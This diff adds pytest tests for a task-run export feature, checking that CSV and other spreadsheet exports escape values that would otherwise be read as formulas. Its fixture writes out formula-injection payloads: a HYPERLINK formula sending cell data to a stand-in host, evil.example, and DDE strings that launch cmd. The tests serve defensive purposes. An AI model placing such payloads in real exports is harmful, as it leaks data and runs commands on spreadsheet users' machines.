@@ -448,3 +448,59 @@ def test_browser_exports_a_filtered_list_as_csv(admin_page, live_server):
     assert messages[0].startswith("Completed a streamed CSV export of runs (without payload; "
                                   "filters: status=FAILED); 3 rows.")
     assert messages[1].startswith("Exported 3 runs as CSV")
+
+
+# --- Spreadsheet formula injection (issue 17, item 10) ---------------------------------------
+# Before: cells were written as stored, so a task name, task id or message id taken from a
+# Pub/Sub message (or a negative result) reached the spreadsheet as a formula.
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def hostile_runs():
+    """Runs whose every text column that a message controls starts like a formula."""
+    hostile = make_run(
+        '=HYPERLINK("http://evil.example/?"&A1,"Open")', State.FAILED,
+        task_id="+1+cmd|' /C calc'!A0", message_id="@SUM(1+1)*cmd|' /C calc'!A0",
+        attempts=1, created_at=at(0),
+        errors=[{"exception_class_path": "-2+3+cmd|' /C calc'!A0"}],
+        args=["=1+1"], kwargs={"k": "=1+1"})
+    retry = make_run("add", State.SUCCESSFUL, trigger=Trigger.RETRY, retry_of=hostile,
+                     created_at=at(1), return_value=-5, args=[-1, -4])
+    # Tab and CR first, too (Excel drops them and reads the rest).
+    make_run("\t=1+2", State.READY, task_id="\r=1+3", created_at=at(2))
+    return hostile, retry
+
+
+def assert_no_formula(rows):
+    cells = [cell for row in rows for cell in row]
+    assert cells, "nothing was exported"
+    formulas = [cell for cell in cells if str(cell).startswith(FORMULA_STARTS)]
+    assert formulas == []
+    return cells
+
+
+def test_no_export_writes_a_cell_a_spreadsheet_would_evaluate(admin_client, hostile_runs):
+    hostile, retry = hostile_runs
+    exported = admin_client.post(reverse(EXPORT), export_form(resource=1)).content.decode()
+    streamed_text = body(admin_client.post(reverse(STREAM_PAYLOAD)))
+    command = run_command("--include-payload", "--include-redacted")[0]
+    for text in (exported, streamed_text, command):
+        rows = list(csv.reader(io.StringIO(text)))
+        cells = assert_no_formula(rows)
+        # Escaped, not dropped: the value is still there after the apostrophe.
+        assert """'=HYPERLINK("http://evil.example/?"&A1,"Open")""" in cells
+        assert "'+1+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+        assert "'-2+3+cmd|' /C calc'!A0" in cells  # last_error_class
+        assert "'-5" in cells  # a negative return value
+        assert "'\t=1+2" in cells and "'\r=1+3" in cells
+        by_id = {row[0]: row for row in rows[1:]}
+        assert by_id[retry.result_id][headers().index("retry_of")] == hostile.result_id
+
+
+def test_every_import_export_format_gets_escaped_cells(hostile_runs):
+    # The widget escapes, so every tablib format (XLSX, ODS, JSON...) gets the same cells.
+    queryset = TaskExecution.objects.all()
+    for resource in (TaskExecutionResource(), TaskExecutionPayloadResource(reveal_redacted=True)):
+        assert_no_formula(resource.export(queryset))
